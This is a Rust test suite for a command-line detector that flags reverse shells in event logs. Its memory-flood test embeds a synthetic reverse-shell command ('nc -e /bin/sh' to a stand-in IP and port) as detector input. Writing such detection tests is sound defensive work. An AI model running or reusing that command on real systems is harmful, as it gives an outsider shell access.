//! The `eqlc-detect` binary (built with the bundled, generated rule pack) end to end:
//! exact alert sets against the generator's answer key, garbage lines, gzip, stdin,
//! several inputs, exit codes, SIGTERM, a flood of unique entities under a memory cap,
//! and agreement with the hand-written baseline binary.

use std::collections::BTreeSet;
use std::io::{Read, Write};
use std::path::PathBuf;
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

use eqlc_detector::gen::{generate, GenConfig, Truth, SEED_RULE_ID};

mod common;
use common::seed_pair;

const BIN: &str = env!("CARGO_BIN_EXE_eqlc-detect");
const BASELINE: &str = env!("CARGO_BIN_EXE_eqlc-detect-baseline");
const GEN: &str = env!("CARGO_BIN_EXE_eqlc-gen");

type AlertSet = BTreeSet<(String, Vec<String>)>;

fn tmp(name: &str) -> PathBuf {
    let dir = std::env::temp_dir().join(format!("eqlc-detector-cli-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    dir.join(name)
}

fn alert_set(stdout: &[u8]) -> AlertSet {
    String::from_utf8_lossy(stdout)
        .lines()
        .map(|l| {
            let a: serde_json::Value = serde_json::from_str(l).expect("alert line is JSON");
            (
                a["kibana.alert.rule.rule_id"].as_str().unwrap().to_string(),
                a["eqlc.events"]
                    .as_array()
                    .unwrap()
                    .iter()
                    .map(|e| e["event"]["id"].as_str().unwrap_or("<missing>").to_string())
                    .collect(),
            )
        })
        .collect()
}

fn truth_set(t: &Truth) -> AlertSet {
    t.alerts()
        .map(|p| (SEED_RULE_ID.to_string(), p.event_ids.clone()))
        .collect()
}

fn generated(cfg: &GenConfig) -> (Vec<u8>, Truth) {
    let mut out = Vec::new();
    let mut truth = Truth::default();
    generate(cfg, &mut out, Some(&mut truth)).unwrap();
    (out, truth)
}

fn run(bin: &str, args: &[&str], stdin: Option<&[u8]>) -> std::process::Output {
    let mut child = Command::new(bin)
        .args(args)
        .stdin(if stdin.is_some() {
            Stdio::piped()
        } else {
            Stdio::null()
        })
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    if let Some(data) = stdin {
        let mut w = child.stdin.take().unwrap();
        let data = data.to_vec();
        std::thread::spawn(move || {
            let _ = w.write_all(&data);
        });
    }
    child.wait_with_output().unwrap()
}

#[test]
fn list_rules() {
    let out = run(BIN, &["--list-rules"], None);
    assert!(out.status.success());
    let text = String::from_utf8(out.stdout).unwrap();
    assert!(text.lines().any(|l| l
        == "76e4d92b-61c1-4a95-ab61-5fd94179a1ee\tmedium\tPotential Reverse Shell via Suspicious Child Process"));
}

#[test]
fn sample_file_alerts_match_the_answer_key() {
    let sample = concat!(env!("CARGO_MANIFEST_DIR"), "/samples/sample.ndjson");
    let truth: serde_json::Value = serde_json::from_slice(
        &std::fs::read(concat!(
            env!("CARGO_MANIFEST_DIR"),
            "/samples/sample.truth.json"
        ))
        .unwrap(),
    )
    .unwrap();
    let want: AlertSet = truth["alerts"]
        .as_array()
        .unwrap()
        .iter()
        .map(|a| {
            (
                SEED_RULE_ID.to_string(),
                a["event_ids"]
                    .as_array()
                    .unwrap()
                    .iter()
                    .map(|x| x.as_str().unwrap().to_string())
                    .collect(),
            )
        })
        .collect();
    let out = run(BIN, &[sample], None);
    assert!(out.status.success());
    assert_eq!(alert_set(&out.stdout), want);
    let err = String::from_utf8(out.stderr).unwrap();
    assert!(err.contains("2000 events"), "{err}");
    assert!(err.contains("alerts: 13"), "{err}");
    assert!(err.contains("bad lines: 0"), "{err}");
    // the committed sample is what the documented command produces
    let regen = Command::new(GEN)
        .args([
            "--events",
            "2000",
            "--seed",
            "7",
            "--shells",
            "13",
            "--near-misses",
            "14",
            "--hosts",
            "12",
        ])
        .output()
        .unwrap();
    assert!(regen.status.success());
    assert!(
        regen.stdout == std::fs::read(sample).unwrap(),
        "samples/sample.ndjson is stale"
    );
}

#[test]
fn generated_stream_with_garbage_gzip_stdin_and_several_inputs() {
    let cfg1 = GenConfig {
        events: 6000,
        seed: 21,
        shells: 26,
        near_misses: 30,
        hosts: 15,
        ..GenConfig::default()
    };
    let cfg2 = GenConfig {
        seed: 22,
        start_ns: cfg1.start_ns + 86_400_000_000_000,
        ..cfg1.clone()
    };
    let (s1, t1) = generated(&cfg1);
    let (s2, t2) = generated(&cfg2);
    let mut want = truth_set(&t1);
    want.extend(truth_set(&t2));
    assert_eq!(want.len(), 52);

    // garbage interleaved in the first file
    let mut dirty = Vec::new();
    let mut n_bad = 0;
    for (i, l) in s1
        .split(|&b| b == b'\n')
        .filter(|l| !l.is_empty())
        .enumerate()
    {
        if i % 250 == 1 {
            let g: &[u8] = match n_bad % 5 {
                0 => b"{\"@timestamp\": oops}",
                1 => b"{\"@timestamp\":\"2024-05-01T00:00:00Z\",\"x\":\"\xc3\x28\"}",
                2 => b"{\"@timestamp\":\"2024-13-01T00:00:00Z\"}",
                3 => b"{\"@timestamp\":\"2024-05-01T00:00:00Z\",\"process\":{\"args_count\":\"many\"}}",
                _ => b"not json at all",
            };
            dirty.extend_from_slice(g);
            dirty.push(b'\n');
            n_bad += 1;
        }
        dirty.extend_from_slice(l);
        dirty.push(b'\n');
    }
    // an overlong line
    dirty.extend_from_slice(&vec![b'x'; 5000]);
    dirty.push(b'\n');
    n_bad += 1;
    let f1 = tmp("one.ndjson");
    std::fs::write(&f1, &dirty).unwrap();
    // the second as gzip
    let f2 = tmp("two.ndjson.gz");
    {
        let mut gz = flate2::write::GzEncoder::new(
            std::fs::File::create(&f2).unwrap(),
            flate2::Compression::fast(),
        );
        gz.write_all(&s2).unwrap();
        gz.finish().unwrap();
    }
    let (p1, p2) = (f1.to_str().unwrap(), f2.to_str().unwrap());

    let out = run(BIN, &["--max-line-bytes", "4K", p1, p2], None);
    assert!(out.status.success());
    assert_eq!(alert_set(&out.stdout), want);
    let err = String::from_utf8(out.stderr).unwrap();
    assert!(err.contains(&format!("bad lines: {n_bad} ")), "{err}");
    assert!(err.contains(&format!("{p1}:2: bad line skipped")), "{err}");
    assert!(err.contains("12000 events"), "{err}");

    // stdin ('-') between files, gzip on stdin too
    let gz = std::fs::read(&f2).unwrap();
    let out = run(BIN, &["--max-line-bytes=4K", p1, "-"], Some(&gz));
    assert!(out.status.success());
    assert_eq!(alert_set(&out.stdout), want);

    // no file = stdin
    let out = run(BIN, &[], Some(&s1));
    assert!(out.status.success());
    assert_eq!(alert_set(&out.stdout), truth_set(&t1));

    // the hand-written baseline agrees, alert for alert (same uuids)
    let a = run(BIN, &[p1, p2], None);
    let b = run(BASELINE, &[p1, p2], None);
    let uuids = |o: &[u8]| {
        String::from_utf8_lossy(o)
            .lines()
            .map(|l| {
                serde_json::from_str::<serde_json::Value>(l).unwrap()["kibana.alert.uuid"]
                    .to_string()
            })
            .collect::<BTreeSet<_>>()
    };
    assert_eq!(uuids(&a.stdout), uuids(&b.stdout));
    assert_eq!(uuids(&a.stdout).len(), 52);
}

#[test]
fn inputs_split_by_event_kind_are_merged_in_time_order() {
    // One generated stream, its network events in one file and everything else in
    // another (as exports per data stream come): read one after the other, every
    // connection older than the last process event would be a straggler and no reverse
    // shell would be found; merged by time, the alerts are those of the whole stream.
    let cfg = GenConfig {
        events: 3000,
        seed: 31,
        shells: 12,
        near_misses: 10,
        hosts: 6,
        ..GenConfig::default()
    };
    let (stream, truth) = generated(&cfg);
    let (mut network, mut other) = (Vec::new(), Vec::new());
    for l in stream.split_inclusive(|&b| b == b'\n') {
        let is_network = String::from_utf8_lossy(l).contains("\"category\":[\"network\"]");
        if is_network { &mut network } else { &mut other }.extend_from_slice(l);
    }
    assert!(!network.is_empty() && !other.is_empty());
    let (fa, fb) = (tmp("split-other.ndjson"), tmp("split-network.ndjson"));
    std::fs::write(&fa, &other).unwrap();
    std::fs::write(&fb, &network).unwrap();
    let (pa, pb) = (fa.to_str().unwrap(), fb.to_str().unwrap());
    let want = truth_set(&truth);
    assert_eq!(want.len(), 12);
    for args in [[pa, pb], [pb, pa]] {
        let out = run(BIN, &args, None);
        assert!(out.status.success());
        assert_eq!(alert_set(&out.stdout), want, "{args:?}");
        let err = String::from_utf8(out.stderr).unwrap();
        assert!(err.contains("stragglers dropped: 0"), "{err}");
        assert!(err.contains("3000 events"), "{err}");
    }
    // a bad line is reported at its own file and line
    let mut dirty = b"not json\n".to_vec();
    dirty.extend_from_slice(&network);
    std::fs::write(&fb, &dirty).unwrap();
    let out = run(BIN, &[pa, pb], None);
    let err = String::from_utf8(out.stderr).unwrap();
    assert!(err.contains(&format!("{pb}:1: bad line skipped")), "{err}");
    assert_eq!(alert_set(&out.stdout), want);
}

#[test]
fn an_output_that_fails_stops_the_run_and_the_output_may_not_be_an_input() {
    // a generated stream of several chunks with reverse shells early on
    let cfg = GenConfig {
        events: 4000,
        seed: 41,
        shells: 30,
        hosts: 5,
        ..GenConfig::default()
    };
    let (stream, _) = generated(&cfg);
    let f = tmp("for-output.ndjson");
    std::fs::write(&f, &stream).unwrap();
    let p = f.to_str().unwrap();
    #[cfg(target_os = "linux")]
    {
        // a full disk: said at once, exit 1, and the rest of the input is not read
        let out = run(BIN, &["-o", "/dev/full", p], None);
        assert_eq!(out.status.code(), Some(1));
        let err = String::from_utf8(out.stderr).unwrap();
        assert!(
            err.contains("writing alerts failed, input not read further"),
            "{err}"
        );
        assert!(!err.contains("4000 events"), "{err}");
    }
    // `-o` naming an input (by another spelling) is refused before anything is written
    let dir = f.parent().unwrap().to_str().unwrap().to_string();
    let other_spelling = format!("{dir}/./for-output.ndjson");
    let out = run(BIN, &["-o", &other_spelling, p], None);
    assert_eq!(out.status.code(), Some(2));
    let err = String::from_utf8(out.stderr).unwrap();
    assert!(err.contains("is the input file"), "{err}");
    assert_eq!(std::fs::read(&f).unwrap(), stream, "the input is untouched");
    // a line store smaller than a line is raised, and said so
    let out = run(
        BIN,
        &["--keep-bytes", "10", "--max-line-bytes", "100", "-"],
        Some(b"{\"@timestamp\":1}\n"),
    );
    assert!(out.status.success());
    let err = String::from_utf8(out.stderr).unwrap();
    assert!(
        err.contains(
            "note: --keep-bytes 10 cannot hold a line of --max-line-bytes 100; raised to 101"
        ),
        "{err}"
    );
    // standard input cannot be two inputs (merged, they would read each other's lines)
    let out = run(BIN, &["-", "-"], Some(&stream));
    assert_eq!(out.status.code(), Some(2));
    let err = String::from_utf8(out.stderr).unwrap();
    assert!(err.contains("named more than once"), "{err}");
}

#[test]
fn a_full_reorder_buffer_is_named_when_it_causes_stragglers() {
    // 100,010 events 1 ms apart, then one as old as the first: a 1-day window would keep
    // it, but the buffer holds at most 100,000 events and released the first ten early
    let mut input = String::new();
    for i in 0..100_010u64 {
        input.push_str(&format!("{{\"@timestamp\":{}}}\n", 1_000_000 + i));
    }
    input.push_str("{\"@timestamp\":1000000}\n");
    let out = run(
        BIN,
        &["--reorder-window", "1d", "-"],
        Some(input.as_bytes()),
    );
    assert!(out.status.success());
    let err = String::from_utf8(out.stderr).unwrap();
    assert!(err.contains("stragglers dropped: 1"), "{err}");
    assert!(
        err.contains("note: 1 event(s) came within the reorder window (1d) but after the full reorder buffer (at most 100000 events or 256 MiB) had released newer events early"),
        "{err}"
    );
    assert!(!err.contains("give a longer"), "{err}");
}

#[test]
fn a_quiet_live_stream_gets_its_alerts_without_waiting_for_more_events() {
    // a reverse shell on a pipe that stays open: under the 2 s window the pair is held
    // until newer events come, so once the stream has been quiet for the window the
    // held events are released and the alert is written, before the input ends
    let pair = seed_pair("2024-05-01T00:00:00Z", "2024-05-01T00:00:00.5Z");
    let mut child = Command::new(BIN)
        .arg("-")
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    let mut stdin = child.stdin.take().unwrap();
    stdin.write_all(pair.as_bytes()).unwrap();
    stdin.flush().unwrap();
    let stdout = child.stdout.take().unwrap();
    let (tx, rx) = std::sync::mpsc::channel();
    std::thread::spawn(move || {
        use std::io::BufRead;
        for line in std::io::BufReader::new(stdout).lines() {
            let _ = tx.send(line.unwrap());
        }
    });
    let first = rx.recv_timeout(Duration::from_secs(20));
    drop(stdin); // end of input only now
    let status = child.wait().unwrap();
    assert!(status.success());
    let line = first.expect("the alert came while the input was still open");
    let alert: serde_json::Value = serde_json::from_str(&line).unwrap();
    assert_eq!(alert["eqlc.events"][1]["event"]["id"], "e2");
}

#[test]
fn table_format_and_output_file() {
    let sample = concat!(env!("CARGO_MANIFEST_DIR"), "/samples/sample.ndjson");
    let out = run(BIN, &["--format", "table", "-q", sample], None);
    assert!(out.status.success());
    let text = String::from_utf8(out.stdout).unwrap();
    assert_eq!(
        text.matches("MEDIUM   Potential Reverse Shell").count(),
        13,
        "{text}"
    );
    assert!(out.stderr.is_empty(), "--quiet");
    let f = tmp("alerts.ndjson");
    let out = run(BIN, &["-o", f.to_str().unwrap(), sample], None);
    assert!(out.status.success());
    assert!(out.stdout.is_empty());
    assert_eq!(alert_set(&std::fs::read(&f).unwrap()).len(), 13);
}

#[test]
fn exit_codes() {
    let out = run(BIN, &["/nonexistent/events.ndjson"], None);
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("cannot read input"));
    let out = run(BIN, &["--bogus"], None);
    assert_eq!(out.status.code(), Some(2));
    let out = run(BIN, &["--reorder-window", "soon"], None);
    assert_eq!(out.status.code(), Some(2));
    let out = run(BIN, &[std::env::temp_dir().to_str().unwrap()], None);
    assert_eq!(out.status.code(), Some(2));
    // a corrupt gzip file: what was read is processed, the run ends with 2
    let f = tmp("corrupt.gz");
    let mut data = vec![0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3];
    data.extend_from_slice(b"garbage that is not deflate");
    std::fs::write(&f, data).unwrap();
    let out = run(BIN, &[f.to_str().unwrap()], None);
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("read error"));
    let out = run(BIN, &["--help"], None);
    assert!(out.status.success());
}

#[test]
fn sigterm_and_sigint_flush_alerts_print_summary_and_exit_143_130() {
    // With a one-hour reorder window nothing is released before the end of input; stdin
    // stays open, so only the signal ends the run: every alert must still come out.
    let input = std::fs::read(concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/samples/sample.ndjson"
    ))
    .unwrap();
    for (sig, want) in [("-TERM", 143), ("-INT", 130)] {
        let mut child = Command::new(BIN)
            .args(["--reorder-window", "1h", "-"])
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap();
        let mut stdin = child.stdin.take().unwrap();
        stdin.write_all(&input).unwrap();
        stdin.flush().unwrap();
        // write_all returned: all but a pipe buffer's worth has been read; let the
        // detector drain the rest
        std::thread::sleep(Duration::from_millis(1500));
        let status = Command::new("kill")
            .args([sig, &child.id().to_string()])
            .status()
            .unwrap();
        assert!(status.success());
        let mut stdout = Vec::new();
        child
            .stdout
            .take()
            .unwrap()
            .read_to_end(&mut stdout)
            .unwrap();
        let mut stderr = String::new();
        child
            .stderr
            .take()
            .unwrap()
            .read_to_string(&mut stderr)
            .unwrap();
        let code = child.wait().unwrap().code();
        drop(stdin);
        assert_eq!(code, Some(want), "{sig}: {stderr}");
        assert_eq!(alert_set(&stdout).len(), 13, "{sig}: {stderr}");
        assert!(stderr.contains("2000 events"), "{sig}: {stderr}");
        assert!(stderr.contains("bad lines: 0"), "{sig}: {stderr}");
    }
}

fn vm_hwm_kib(pid: u32) -> Option<u64> {
    let s = std::fs::read_to_string(format!("/proc/{pid}/status")).ok()?;
    s.lines()
        .find(|l| l.starts_with("VmHWM:"))?
        .split_whitespace()
        .nth(1)?
        .parse()
        .ok()
}

#[test]
fn flood_of_unique_entities_stays_under_the_memory_cap() {
    let n: u64 = if cfg!(debug_assertions) {
        200_000
    } else {
        1_000_000
    };
    let mut child = Command::new(BIN)
        .args(["--max-pending", "10000", "--keep-bytes", "16M", "-"])
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let pid = child.id();
    let mut stdin = child.stdin.take().unwrap();
    let mut buf = String::with_capacity(1 << 21);
    let mut peak = 0;
    let start = Instant::now();
    for i in 0..n {
        // every event opens a partial under a new process.entity_id
        buf.push_str(&format!(
            "{{\"@timestamp\":\"2024-05-01T00:00:00.{:09}Z\",\"event\":{{\"category\":[\"process\"],\"type\":[\"start\"],\"action\":\"exec\",\"id\":\"e{i}\"}},\"host\":{{\"id\":\"h{}\",\"os\":{{\"type\":\"linux\"}}}},\"process\":{{\"entity_id\":\"ent-{i}\",\"name\":\"nc\",\"args\":[\"nc\",\"-e\",\"/bin/sh\",\"203.0.113.1\",\"4444\"],\"args_count\":5,\"parent\":{{\"name\":\"bash\"}}}}}}\n",
            i * 900,
            i % 50
        ));
        if buf.len() > 1 << 20 {
            stdin.write_all(buf.as_bytes()).unwrap();
            buf.clear();
            peak = peak.max(vm_hwm_kib(pid).unwrap_or(0));
        }
    }
    stdin.write_all(buf.as_bytes()).unwrap();
    peak = peak.max(vm_hwm_kib(pid).unwrap_or(0));
    drop(stdin);
    let out = child.wait_with_output().unwrap();
    assert!(out.status.success());
    let err = String::from_utf8(out.stderr).unwrap();
    assert!(err.contains(&format!("evictions {}", n - 10_000)), "{err}");
    assert!(peak > 0, "VmHWM readable");
    // 10,000 partials + 16 MiB of lines + buffers: far below 200 MiB
    assert!(peak < 200 * 1024, "peak RSS {peak} KiB");
    eprintln!(
        "flood: {n} events in {:?}, peak RSS {peak} KiB",
        start.elapsed()
    );
}

#[test]
fn events_late_within_the_default_window_are_kept_and_later_ones_come_with_a_hint() {
    let path = tmp("out_of_order.ndjson");
    // 12 s, then 15 s (which releases 12 s under a 2 s window), then 14 s (1 s late) and
    // 11 s (4 s late, and older than the 12 s event already released)
    let line = |s: u32| {
        format!("{{\"@timestamp\":\"2024-05-01T00:00:{s:02}Z\",\"event\":{{\"category\":\"process\"}}}}\n")
    };
    std::fs::write(&path, [12, 15, 14, 11].map(line).concat()).unwrap();
    let run = |extra: &[&str]| {
        let out = Command::new(BIN).args(extra).arg(&path).output().unwrap();
        assert!(out.status.success());
        String::from_utf8_lossy(&out.stderr).into_owned()
    };
    // default window (2 s): the event 1 s late is kept, the one 4 s late is dropped
    let err = run(&[]);
    assert!(err.contains("stragglers dropped: 1"), "{err}");
    assert!(
        err.contains("note: 1 event(s) came more than the reorder window (2s) after newer ones and were dropped")
            && err.contains("give a longer --reorder-window"),
        "{err}"
    );
    // no window: both are dropped
    let err = run(&["--reorder-window", "0"]);
    assert!(err.contains("stragglers dropped: 2"), "{err}");
    assert!(
        err.contains("note: 2 event(s) came after newer ones (no reorder window) and were dropped"),
        "{err}"
    );
    // a window long enough: none
    let err = run(&["--reorder-window", "15s"]);
    assert!(err.contains("stragglers dropped: 0"), "{err}");
    assert!(!err.contains("note:"), "{err}");
}
